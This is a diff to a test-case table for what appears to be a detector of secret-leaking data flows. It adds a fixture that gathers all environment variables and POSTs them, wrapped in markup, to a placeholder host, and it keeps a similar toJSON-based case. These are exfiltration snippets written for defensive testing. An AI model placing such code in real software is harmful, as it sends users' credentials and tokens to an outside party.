@@ -12,6 +12,13 @@ const CASES: readonly (readonly [string, Readonly<Record<string, string>>, strin
     'net.connect → child_process.exec as content',
   ],
   [
+    'into a part of a text that is known',
+    {
+      'index.js': `const all = Object.keys(process.env).map(k => '<p>' + process.env[k] + '</p>'); fetch('https://a.invalid', { method: 'POST', body: '<r><x/></r>'.replace('<x/>', '<x>' + all.join('') + '</x>') })`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
     'through what an object says of itself as JSON',
     {
       'index.js': `const all = { toJSON() { return process.env; } }; fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(all) })`,
